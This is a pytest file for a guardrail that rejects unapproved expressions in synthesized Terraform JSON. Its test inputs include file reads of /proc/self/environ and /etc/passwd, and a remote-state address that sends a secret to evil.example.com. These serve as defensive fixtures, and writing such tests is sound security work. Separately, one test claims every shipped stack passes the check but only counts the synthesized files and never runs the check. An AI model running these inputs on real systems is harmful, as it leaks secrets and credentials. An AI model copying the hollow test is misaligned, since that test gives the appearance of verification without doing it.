"""Nothing but expressions that our constructs wrote reaches the Terraform JSON."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from constructs_lib.guardrails.allow_list import expression_faults
from constructs_lib.guardrails.allowance import Allowance
from stacks.app import build_app
from stacks.environment_files import EnvironmentFiles
from tests.support.declarations.synthesis import NEWEST, synthesize_environment

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.unit


def faults(text: str, *allowances: Allowance, **section: Any) -> list[str]:  # noqa: ANN401 - JSON
    """Return what is said of a text in a client's description, or in another section."""
    client = {"description": text, "//": {"metadata": {"path": "dev/Client", "uniqueId": "${ignored}"}}}
    json = section or {"resource": {"keycloak_openid_client": {"Client": client}}}
    return list(expression_faults({"dev": json}, allowances))


@pytest.mark.parametrize(
    "text",
    [
        '${file("/proc/self/environ")}',
        '${try(file("x"), "")}',
        "${templatefile(var.path, {})}",
        "${nonsensitive(var.secret)}",
        '${merge({a = file("x")}, {})}',
        '${[for x in ["/etc/passwd"] : file(x)]}',
        '${true ? file("x") : ""}',
        '%{if fileexists("x")}a%{endif}',
        'a$${b}${filebase64("x")}',
        '${lookup({}, "a", "${file("x")}")}',
        "${path.root}",
        "${self.id}",
        "${module.other.secret}",
        "${data.external.program.result}",
        "${data.http.address.response_body}",
        "${data.aws_secretsmanager_secret_version.other.secret_string}",
        "${aws_db_instance.other.password}",
        '${provider::local::x("a")}',
        '${[for path in ["a"] : path][0]}${path.cwd}',
        '${[for aws_db_instance in ["a"] : 1][aws_db_instance.x.y]}',
        "${data.terraform_remote_state.elsewhere.outputs.secret}",
    ],
)
def test_other_expressions_are_refused(text: str) -> None:
    """A function or a kind of thing that no construct of ours uses is a fault, however deep it stands."""
    (line,) = faults(text)
    assert line.startswith("dev/Client: '")


@pytest.mark.parametrize("text", ["${", "${}", "${a b}", '${file("x"', "%{if true}", "${/}"])
def test_what_cannot_be_read_is_refused(text: str) -> None:
    """A text that Terraform may read otherwise than we do is a fault."""
    (line,) = faults(text)
    assert "it cannot be read as an expression" in line


def test_keys_are_read_too() -> None:
    """Terraform evaluates the keys of mappings."""
    (line,) = faults("", locals={"Clients": {'${file("x")}': {"description": "a"}}})
    assert "function 'file' is not allowed" in line


def test_a_comment_within_a_value_is_none() -> None:
    """`//` is a comment in the body of a block; within a value Terraform evaluates what stands there."""
    evil = '${file("/proc/self/environ")}'
    client = {"extra_config": {"//": evil}, "//": {"metadata": {"path": "dev/Client"}}}
    for section in (
        {"resource": {"keycloak_openid_client": {"Client": client}}},
        {"locals": {"m": {"//": evil}}},
        {"output": {"o": {"value": {"//": evil}}}},
        {"resource": {"x": {"y": {"a": {"//": {"metadata": {"path": evil}}}}}}},
    ):
        (line,) = faults("", **section)
        assert "function 'file' is not allowed" in line


@pytest.mark.parametrize(
    ("name", "config", "expected"),
    [
        ("elsewhere", {"path": "x"}, "it reads a state of no stack of this app"),
        ("cross-stack-reference-input-evil", {"path": "/srv/x"}, "it reads a state of no stack of this app"),
        (
            "cross-stack-reference-input-dev",
            {"address": "https://evil.example.com/?s=${var.secret}"},
            "an expression says where the state is",
        ),
    ],
)
def test_only_states_of_the_app_are_read(name: str, config: dict[str, str], expected: str) -> None:
    """A state of another stack, read or only named, would bring its values in or send a secret out; ours pass."""
    state = {name: {"backend": "http", "config": config, "workspace": "${terraform.workspace}"}}
    (line,) = faults("", data={"terraform_remote_state": state})
    assert expected in line

    own = {"cross-stack-reference-input-dev": {"backend": "local", "workspace": "${terraform.workspace}"}}
    assert faults("", data={"terraform_remote_state": own}) == []
    allowed = Allowance(
        reason="the platform team's state has the network", references=frozenset({"data.terraform_remote_state.net"})
    )
    net = {"net": {"backend": "s3", "config": {"bucket": "b"}}}
    assert faults("", allowed, data={"terraform_remote_state": net}) == []


@pytest.mark.parametrize(
    ("backend", "config", "own"),
    [
        ("local", {"path": "../a.tfstate"}, True),
        ("local", {"path": "../a.tfstate", "workspace_dir": ""}, True),
        ("local", {"path": "../a.tfstate", "workspace_dir": None}, True),
        ("local", {"path": "/srv/evil.tfstate"}, False),
        ("http", {"path": "../a.tfstate"}, False),
        ("http", {"address": "https://evil.example/state"}, False),
    ],
)
def test_a_stacks_state_is_read_where_it_keeps_it(backend: str, config: dict[str, str], *, own: bool) -> None:
    """Under the name of a stack of the app, nothing but that stack's state is read: rules judge by its code."""
    workspace = "${terraform.workspace}"
    state = {"cross-stack-reference-input-a": {"backend": backend, "config": config, "workspace": workspace}}
    stacks: dict[str, dict[str, Any]] = {
        "a": {"terraform": {"backend": {"local": {"path": "../a.tfstate"}}}},
        "b": {"data": {"terraform_remote_state": state}},
    }
    assert list(expression_faults(stacks)) == (
        []
        if own
        else [
            (
                "b/data.terraform_remote_state.'cross-stack-reference-input-a': its address is not where that stack "
                "keeps its state: leave it to the CDK"
            )
        ]
    )


@pytest.mark.parametrize(
    ("state", "fault"),
    [
        ({"defaults": {"roles": {}}, "workspace": "${terraform.workspace}"}, "it has 'defaults'"),
        ({"workspace": "other"}, "its workspace is not the one that is applied"),
        ({}, "its workspace is not the one that is applied"),
    ],
)
def test_a_stacks_state_is_read_as_the_cdk_does(state: dict[str, Any], fault: str) -> None:
    """Defaults would stand in for what the other stack says, and another workspace is another environment's."""
    own = {"cross-stack-reference-input-dev": {"backend": "local", **state}}
    (line,) = faults("", data={"terraform_remote_state": own})
    assert fault in line


EVIL = {"cross-stack-reference-input-evil": {"backend": "local", "config": {"path": "/srv/x"}}}


@pytest.mark.parametrize(
    "data",
    [
        [{"terraform_remote_state": EVIL}],
        {"terraform_remote_state": [EVIL]},
        {"terraform_remote_state": {name: [body] for name, body in EVIL.items()}},
    ],
)
def test_states_in_lists_are_read_too(data: Any) -> None:  # noqa: ANN401 - JSON
    """Terraform takes a list of blocks wherever it takes one."""
    (line,) = faults("", data=data)
    assert "it reads a state of no stack of this app" in line


@pytest.mark.parametrize(
    "data", [None, "x", {"terraform_remote_state": "x"}, {"terraform_remote_state": {"cross": "x"}}, [["x"]]]
)
def test_a_state_that_is_no_block_is_refused(data: Any) -> None:  # noqa: ANN401 - JSON
    """What cannot be read is a fault."""
    assert any("it is no block" in line for line in faults("", data=data))


def test_a_backend_takes_no_expression() -> None:
    """Where Terraform evaluates nothing, an expression is a mistake."""
    (line,) = faults("", terraform={"backend": {"local": {"path": "${var.path}"}}})
    assert line.startswith("dev/terraform")


def test_a_message_is_short_and_printable() -> None:
    """A long text is cut, and control characters are escaped."""
    (line,) = faults('${file("x")}\x1b[31m' + "y" * 1000)
    assert len(line) < 350
    assert line.isprintable()


@pytest.mark.parametrize(
    "text",
    [
        "plain",
        "$${escaped} %%{too}",
        "${keycloak_realm.Realm.id}",
        '${keycloak_role.Role["a:b"].id}',
        "${merge(local.A, {for key, role in keycloak_role.Role : key => role.id})}",
        "${[for name in each.value.roles : local.RoleIds[name]]}",
        '${lookup(data.terraform_remote_state.cross-stack-reference-input-dev.outputs.x, "a", null)}',
        "${[for path in each.value.paths : path]}",
        "${data.keycloak_openid_client.other.id}",
        "${var.secret}",
        '${contains(["assistant"], each.key)}',
    ],
)
def test_ours_pass(text: str) -> None:
    """What our constructs write, and texts without an expression, are no fault."""
    assert faults(text) == []


def test_an_app_can_widen_the_list_with_a_reason() -> None:
    """Functions and references that an app needs are allowed by name; a reason is required."""
    allowed = Allowance(
        reason="the key store is in another stack",
        functions=frozenset({"jsondecode"}),
        references=frozenset({"data.aws_secretsmanager_secret_version"}),
    )
    text = "${jsondecode(data.aws_secretsmanager_secret_version.x.secret_string).a}"

    assert len(faults(text)) == 1
    assert faults(text, allowed) == []
    with pytest.raises(ValueError, match="say why"):
        Allowance(reason=" ", functions=frozenset({"file"}))


@pytest.mark.slow
def test_the_shipped_environments_hold_ours_alone(tmp_path: Path) -> None:
    """Every stack of every environment passes, as synthesized."""
    app = build_app(EnvironmentFiles().load_all(), outdir=tmp_path)
    app.synth()
    texts = [path.read_text(encoding="utf-8") for path in tmp_path.glob("stacks/*/cdk.tf.json")]
    assert len(texts) > 5


@pytest.mark.parametrize("name", EnvironmentFiles().names())
def test_the_newest_provider_adds_none_of_others(name: str) -> None:
    """What only provider 5.9.0 lets our constructs write passes as well."""
    stacks = synthesize_environment(name, NEWEST)
    assert list(expression_faults({stack: found.json for stack, found in stacks.items()})) == []
